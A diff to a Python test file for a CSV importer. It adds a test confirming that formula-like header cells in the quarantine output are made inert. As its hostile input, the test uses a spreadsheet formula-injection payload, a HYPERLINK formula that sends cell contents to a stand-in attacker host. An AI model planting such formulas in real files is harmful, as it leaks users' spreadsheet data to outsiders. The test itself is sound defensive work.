@@ -7,6 +7,7 @@ column) and the reason with exit status 2, and every completed import accounts f
 
 from __future__ import annotations
 
+import csv
 import json
 import os
 import subprocess
@@ -188,6 +189,24 @@ def test_quarantine_csv_cells_cannot_run_as_formulas(tmp_path):
     assert done.returncode == 0, done.stderr
     raw = pl.read_csv(out / "quarantine" / "contacts.csv", infer_schema=False)
     assert raw["Result"].to_list() == [h.strip() for h in hostile]
+
+
+def test_quarantine_csv_header_cells_cannot_run_as_formulas(tmp_path):
+    """The quarantine file repeats the source's header: a column named like a formula is made
+    inert there too, with the data cells."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    src = tmp_path / "hostile.csv"
+    src.write_text(
+        HEADER + CALLER + ";" + evil.replace(",", "_") + "\n"
+        "C1;28/03/2025;08:00:00;Billing;ann;XXX;0:10;;;;N;x;C1;1\n"
+        "C2;28/03/2025;08:00:00;Billing;ann;ANS;0:10;00:01:00;0:00;0:10;N;x;C2;2\n"
+    )
+    out = tmp_path / "ds"
+    import_file(src, mapping=MAPPING, out=out, max_quarantine_share=1)
+    header = (out / "quarantine" / "contacts.csv").read_text().splitlines()[0]
+    cells = next(csv.reader([header]))
+    assert "'" + evil.replace(",", "_") in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
 
 
 # ---------------------------------------------------------------------- importer details
